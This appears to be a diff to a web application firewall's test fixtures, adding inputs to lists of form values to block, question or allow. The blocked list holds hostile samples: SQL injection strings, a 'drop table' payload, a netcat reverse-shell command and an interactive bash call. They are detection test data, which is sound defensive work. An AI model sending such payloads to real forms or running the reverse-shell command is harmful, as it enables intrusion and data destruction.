@@ -249,8 +249,15 @@ WAF_FORMS_BLOCKED = [
     "sleep(5)#1",
     "9'; drop table users",
     "a & set",
+    "x'='x",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "/bin/bash -i",
 ]
-WAF_FORMS_ASKED = ["/etc/pam.conf", "case 1 when 1 then 2 end"]
+WAF_FORMS_ASKED = [
+    "/etc/pam.conf",
+    "case 1 when 1 then 2 end",
+    "The shell of system users stays /bin/sh for now.",  # a shell named in prose: asked, not refused
+]
 WAF_FORMS_BENIGN = [
     "5'-10\"",
     "4' x 4' wood",
@@ -265,6 +272,7 @@ WAF_FORMS_BENIGN = [
     '10" #4 knitting needles',
     'RED"; "BLUE"; "GREEN";',
     "Mugs; set of 4, blue",
+    "Use the second '=' sign for assignment",
 ]
 
 
